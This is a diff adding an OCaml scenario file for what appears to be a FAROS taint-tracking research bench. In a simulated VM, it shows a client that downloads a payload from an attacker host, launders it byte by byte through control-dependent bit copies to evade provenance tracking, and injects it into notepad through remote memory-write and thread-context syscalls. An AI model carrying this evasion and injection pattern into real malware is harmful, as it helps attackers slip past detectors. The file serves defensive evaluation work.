@@ -1,0 +1,116 @@
+(* The evasion the paper's discussion section concedes: "a dedicated attack
+   could copy data bit-by-bit using an if statement in a for loop ... The
+   output produced by such a loop would be identical to the input but would
+   be untainted."
+
+   This client downloads the payload like the reflective injector, but
+   launders every byte through a control-dependent bit-copy before
+   injecting it.  Under FAROS's direct-flow policy the injected code
+   carries no provenance and the attack goes unflagged; switching on
+   control-dependency propagation (the configurable policy response the
+   paper points to) catches it again, at the usual overtainting price.
+   The evasion bench regenerates exactly this contrast. *)
+
+open Faros_vm
+
+let attacker_ip = Attack_reflective.attacker_ip
+let attacker_port = 4141
+
+(* launder(r1 = dst, r2 = src, r3 = len): byte-wise bit-copy.
+   Clobbers r0, r4, r5, r6. *)
+let launder_sub ~label =
+  [
+    Progs.lbl label;
+    Progs.movi Isa.r4 0;
+    Progs.lbl (label ^ "_loop");
+    Progs.i (Isa.Cmp_rr (Isa.r4, Isa.r3));
+    Asm.Jge_l (label ^ "_done");
+    Progs.i (Isa.Load (1, Isa.r5, Isa.indexed ~base:Isa.r2 ~scale:1 Isa.r4));
+    Progs.movi Isa.r6 0;
+    Progs.movi Isa.r0 1;
+    Progs.lbl (label ^ "_bits");
+    Progs.i (Isa.Cmp_ri (Isa.r0, 256));
+    Asm.Jge_l (label ^ "_emit");
+    Progs.i (Isa.Push Isa.r5);
+    Progs.i (Isa.And_rr (Isa.r5, Isa.r0));
+    Progs.i (Isa.Cmp_ri (Isa.r5, 0));
+    Progs.i (Isa.Pop Isa.r5);
+    Asm.Jz_l (label ^ "_skip");
+    Progs.i (Isa.Or_rr (Isa.r6, Isa.r0));  (* the control-dependent write *)
+    Progs.lbl (label ^ "_skip");
+    Progs.i (Isa.Shl_ri (Isa.r0, 1));
+    Asm.Jmp_l (label ^ "_bits");
+    Progs.lbl (label ^ "_emit");
+    Progs.i (Isa.Store (1, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r4, Isa.r6));
+    Progs.addi Isa.r4 1;
+    Asm.Jmp_l (label ^ "_loop");
+    Progs.lbl (label ^ "_done");
+    Progs.i Isa.Ret;
+  ]
+
+let client_image ~target_pid =
+  let items =
+    List.concat
+      [
+        [ Progs.lbl "start" ];
+        Progs.connect_raw ~ip:attacker_ip ~port:attacker_port;
+        Progs.prefixed_recv ~sock_reg:Isa.r7 ~len_buf:"lenbuf" ~data_buf:"pbuf"
+          ~recv_sub:"recvx";
+        [ Progs.movr Isa.r5 Isa.r3 ];
+        (* launder pbuf -> lbuf, preserving the length across the call *)
+        [
+          Progs.i (Isa.Push Isa.r5);
+          Asm.Mov_label (Isa.r1, "lbuf");
+          Asm.Mov_label (Isa.r2, "pbuf");
+          Progs.movr Isa.r3 Isa.r5;
+          Asm.Call_l "launder";
+          Progs.i (Isa.Pop Isa.r5);
+        ];
+        (* inject the laundered copy *)
+        [ Progs.movi Isa.r1 target_pid; Progs.movr Isa.r2 Isa.r5 ];
+        Progs.syscall Faros_os.Syscall.nt_allocate_virtual_memory;
+        [ Progs.movr Isa.r6 Isa.r0 ];
+        [
+          Progs.movi Isa.r1 target_pid;
+          Progs.movr Isa.r2 Isa.r6;
+          Asm.Mov_label (Isa.r3, "lbuf");
+          Progs.movr Isa.r4 Isa.r5;
+        ];
+        Progs.syscall Faros_os.Syscall.nt_write_virtual_memory;
+        [ Progs.movi Isa.r1 target_pid ];
+        Progs.syscall Faros_os.Syscall.nt_suspend_process;
+        [ Progs.movi Isa.r1 target_pid; Progs.movr Isa.r2 Isa.r6 ];
+        Progs.syscall Faros_os.Syscall.nt_set_context_thread;
+        [ Progs.movi Isa.r1 target_pid ];
+        Progs.syscall Faros_os.Syscall.nt_resume_process;
+        [ Progs.halt ];
+        Progs.recv_exact_sub ~label:"recvx";
+        launder_sub ~label:"launder";
+        [ Asm.Align 4 ];
+        Progs.buffer "lenbuf" 4;
+        Progs.buffer "pbuf" 2048;
+        Progs.buffer "lbuf" 2048;
+      ]
+  in
+  Faros_os.Pe.of_program ~name:"evasive_client.exe" ~base:Faros_os.Process.image_base
+    items
+
+let scenario () =
+  let payload = Payloads.popup ~text:"laundered!" () in
+  Scenario.make "evasive_injection"
+    ~images:
+      [
+        ("notepad.exe", Victims.notepad ());
+        ("evasive_client.exe", client_image ~target_pid:Attack_reflective.first_boot_pid);
+      ]
+    ~actors:
+      [
+        {
+          Faros_os.Netstack.actor_name = "metasploit";
+          actor_ip = Faros_os.Types.Ip.of_string attacker_ip;
+          actor_port = attacker_port;
+          on_connect = (fun _ -> [ Progs.frame payload ]);
+          on_data = (fun _ _ -> []);
+        };
+      ]
+    ~max_ticks:2_000_000 ~boot:[ "notepad.exe"; "evasive_client.exe" ]
